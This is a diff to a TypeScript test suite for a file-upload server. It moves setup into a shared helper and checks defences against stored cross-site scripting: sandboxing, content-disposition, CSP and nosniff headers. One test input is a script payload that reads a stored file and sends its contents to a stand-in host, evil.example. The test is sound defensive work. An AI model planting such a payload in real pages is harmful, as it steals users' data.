@@ -1,11 +1,10 @@
 import assert from 'node:assert/strict';
 import { readFile } from 'node:fs/promises';
 import { join } from 'node:path';
-import { after, before, describe, it } from 'node:test';
+import { describe, it } from 'node:test';
 import { apiClient } from '../helpers/api.js';
-import { listen } from '../helpers/http.js';
+import { servedLibrary } from '../helpers/http.js';
 import { makeVideo } from '../helpers/media.js';
-import { openTestLibrary } from '../helpers/test-library.js';
 
 const SANDBOX = "default-src 'none'; sandbox";
 /** Media may load itself (a video opened on its own is a document whose <video> fetches it), never run script. */
@@ -32,17 +31,7 @@ function directives(header: string | null): Map<string, string[]> {
 }
 
 describe('issue 15, item 4: stored cross-site scripting', () => {
-  let library: Awaited<ReturnType<typeof openTestLibrary>>;
-  let server: Awaited<ReturnType<typeof listen>>;
-
-  before(async () => {
-    library = await openTestLibrary();
-    server = await listen(library);
-  });
-  after(async () => {
-    await server.close();
-    await library.dispose();
-  });
+  const served = servedLibrary();
 
   it('an uploaded HTML page, SVG or script downloads as an attachment, sandboxed and never sniffed', async () => {
     const script = '<script>fetch("/file").then((r) => r.text()).then((t) => fetch("https://evil.example/?" + t))</script>';
@@ -56,8 +45,8 @@ describe('issue 15, item 4: stored cross-site scripting', () => {
       ['notes.txt', 'text/plain', script],
     ] as const;
     for (const [name, type, content] of cases) {
-      const id = await uploadAs(server.url, content, name, type);
-      const response = await fetch(`${server.url}/file/${id}`);
+      const id = await uploadAs(served.server.url, content, name, type);
+      const response = await fetch(`${served.server.url}/file/${id}`);
       assert.equal(response.status, 200, name);
       assert.match(response.headers.get('content-disposition') ?? '', /^attachment; filename="/, `${name} is an attachment`);
       assert.equal(response.headers.get('content-security-policy'), SANDBOX, name);
@@ -67,24 +56,24 @@ describe('issue 15, item 4: stored cross-site scripting', () => {
   });
 
   it('video, images and audio are shown in place, sandboxed without script, and video still seeks with Range', async () => {
-    const video = await readFile(await makeVideo(join(library.env.dir, 'clip.mp4'), { seconds: 1 }));
-    const videoId = await uploadAs(server.url, video, 'clip.mp4', 'video/mp4');
-    const pngId = await uploadAs(server.url, Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'dot.png', 'image/png');
-    const audioId = await uploadAs(server.url, Buffer.from('ID3\x03\x00\x00\x00\x00\x00\x00'), 'tone.mp3', 'audio/mpeg');
+    const video = await readFile(await makeVideo(join(served.library.env.dir, 'clip.mp4'), { seconds: 1 }));
+    const videoId = await uploadAs(served.server.url, video, 'clip.mp4', 'video/mp4');
+    const pngId = await uploadAs(served.server.url, Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'dot.png', 'image/png');
+    const audioId = await uploadAs(served.server.url, Buffer.from('ID3\x03\x00\x00\x00\x00\x00\x00'), 'tone.mp3', 'audio/mpeg');
     for (const id of [videoId, pngId, audioId]) {
-      const response = await fetch(`${server.url}/file/${id}`);
+      const response = await fetch(`${served.server.url}/file/${id}`);
       assert.match(response.headers.get('content-disposition') ?? '', /^inline; filename="/);
       assert.equal(response.headers.get('content-security-policy'), MEDIA_SANDBOX);
       assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
       await response.arrayBuffer();
     }
     // What a <video> element asks for first, then a seek: both answered in place, with the bytes asked.
-    const first = await fetch(`${server.url}/file/${videoId}`, { headers: { range: 'bytes=0-' } });
+    const first = await fetch(`${served.server.url}/file/${videoId}`, { headers: { range: 'bytes=0-' } });
     assert.equal(first.status, 206);
     assert.equal(first.headers.get('content-type'), 'video/mp4');
     assert.equal(first.headers.get('accept-ranges'), 'bytes');
     assert.deepEqual(Buffer.from(await first.arrayBuffer()), video);
-    const seek = await fetch(`${server.url}/file/${videoId}`, { headers: { range: `bytes=${video.length - 100}-` } });
+    const seek = await fetch(`${served.server.url}/file/${videoId}`, { headers: { range: `bytes=${video.length - 100}-` } });
     assert.equal(seek.status, 206);
     assert.equal(seek.headers.get('content-range'), `bytes ${video.length - 100}-${video.length - 1}/${video.length}`);
     assert.match(seek.headers.get('content-disposition') ?? '', /^inline/);
@@ -92,9 +81,9 @@ describe('issue 15, item 4: stored cross-site scripting', () => {
   });
 
   it('every response carries the usual security headers, and the API\'s JSON may load nothing', async () => {
-    const id = await apiClient(server.url).upload('plain bytes', 'plain.bin');
+    const id = await apiClient(served.server.url).upload('plain bytes', 'plain.bin');
     for (const [method, path] of [['GET', '/file'], ['GET', `/file/${id}`], ['GET', '/nowhere'], ['GET', '/file/zz'], ['POST', '/analysis'], ['GET', '/health'], ['GET', '/docs/static/index.css']] as const) {
-      const response = await fetch(`${server.url}${path}`, { method });
+      const response = await fetch(`${served.server.url}${path}`, { method });
       await response.arrayBuffer();
       const where = `${method} ${path} (${response.status})`;
       assert.equal(response.headers.get('x-content-type-options'), 'nosniff', where);
@@ -105,14 +94,14 @@ describe('issue 15, item 4: stored cross-site scripting', () => {
       assert.ok(response.headers.get('content-security-policy'), `${where} has a CSP`);
       assert.equal(response.headers.get('x-powered-by'), null, where);
     }
-    const json = await fetch(`${server.url}/file`);
+    const json = await fetch(`${served.server.url}/file`);
     const csp = directives(json.headers.get('content-security-policy'));
     assert.deepEqual(csp.get('default-src'), ["'none'"]);
     assert.deepEqual(csp.get('frame-ancestors'), ["'none'"]);
   });
 
   it('/docs keeps swagger-ui working: its page loads only its own scripts and styles, which the CSP allows', async () => {
-    const page = await fetch(`${server.url}/docs/`);
+    const page = await fetch(`${served.server.url}/docs/`);
     assert.equal(page.status, 200);
     const html = await page.text();
     const csp = directives(page.headers.get('content-security-policy'));
@@ -126,14 +115,14 @@ describe('issue 15, item 4: stored cross-site scripting', () => {
     const assets = [...html.matchAll(/<(?:script|link)[^>]+(?:src|href)="([^"]+)"/g)].map((m) => m[1]!);
     assert.ok(assets.some((a) => a.endsWith('swagger-ui-bundle.js')) && assets.some((a) => a.endsWith('swagger-ui.css')), assets.join(', '));
     for (const asset of assets) {
-      const target = new URL(asset, `${server.url}/docs/`);
-      assert.equal(target.origin, new URL(server.url).origin, `${asset} comes from this server ('self')`);
+      const target = new URL(asset, `${served.server.url}/docs/`);
+      assert.equal(target.origin, new URL(served.server.url).origin, `${asset} comes from this server ('self')`);
       const response = await fetch(target);
       assert.equal(response.status, 200, asset);
       await response.arrayBuffer();
     }
-    const initializer = await (await fetch(`${server.url}/docs/static/swagger-initializer.js`)).text();
+    const initializer = await (await fetch(`${served.server.url}/docs/static/swagger-initializer.js`)).text();
     assert.doesNotMatch(initializer, /\beval\(|new Function\(/, 'no eval, which the CSP does not allow');
-    assert.equal((await fetch(`${server.url}/docs/json`)).status, 200);
+    assert.equal((await fetch(`${served.server.url}/docs/json`)).status, 200);
   });
 });
